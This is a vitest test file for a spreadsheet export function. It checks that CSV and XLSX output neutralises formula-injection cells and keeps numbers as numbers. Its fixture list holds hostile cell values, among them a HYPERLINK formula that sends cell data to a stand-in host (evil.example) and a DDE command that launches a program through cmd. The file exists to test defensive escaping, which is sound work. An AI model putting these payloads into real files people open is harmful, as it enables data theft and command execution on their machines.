import { describe, expect, it } from 'vitest';
import type { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { exportFileStream } from './stream.ts';

const COLUMNS = [
  { key: 'name', header: 'Name' },
  { key: 'change', header: 'Change' },
] as const;

type Row = { name: string; change: number | null };

async function* rowsOf(rows: Row[]): AsyncGenerator<Row> {
  for (const row of rows) yield row;
}

async function text(stream: Readable): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(Buffer.from(chunk));
  return Buffer.concat(chunks).toString('utf8').replace(/^\uFEFF/, '');
}

/** Cells a spreadsheet would run as a formula (or a DDE command) when the file is opened. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];

describe('export files', () => {
  it('writes text a spreadsheet would run as a formula as plain text in CSV, prefixed with a quote', async () => {
    const csv = await text(exportFileStream('csv', COLUMNS, 'Sheet', rowsOf(HOSTILE.map((name) => ({ name, change: 1 })))));
    const lines = csv.split('\n').slice(1, -1);
    expect(lines).toEqual([
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",1`,
      `'+1+cmd|' /C calc'!A0,1`,
      `'-2+3,1`,
      `'@SUM(1+1),1`,
      `'\t=1+1,1`,
      // A carriage return is a line break to CSV, so that cell is quoted as well.
      `"'\r=1+1",1`,
    ]);
  });

  it('keeps numbers, negative ones included, as numbers in CSV and leaves ordinary text alone', async () => {
    const csv = await text(
      exportFileStream('csv', COLUMNS, 'Sheet', rowsOf([
        { name: 'Acme Dental Group', change: -5 },
        { name: 'Globex', change: 12 },
        { name: 'Initech', change: null },
      ])),
    );
    expect(csv.split('\n')).toEqual(['Name,Change', 'Acme Dental Group,-5', 'Globex,12', 'Initech,', '']);
  });

  it('writes the same cells to XLSX as text, never as formulas, and numbers as numbers', async () => {
    const stream = exportFileStream('xlsx', COLUMNS, 'Sheet', rowsOf([...HOSTILE.map((name) => ({ name, change: -5 }))]));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.read(stream);
    const sheet = workbook.getWorksheet('Sheet')!;
    HOSTILE.forEach((name, i) => {
      const row = sheet.getRow(i + 2);
      expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
      // XML reads a carriage return back as a line feed; the text is otherwise unchanged.
      expect(row.getCell(1).value).toBe(name.replace('\r', '\n'));
      expect(row.getCell(1).formula).toBeUndefined();
      expect(row.getCell(2).type).toBe(ExcelJS.ValueType.Number);
      expect(row.getCell(2).value).toBe(-5);
    });
  });
});
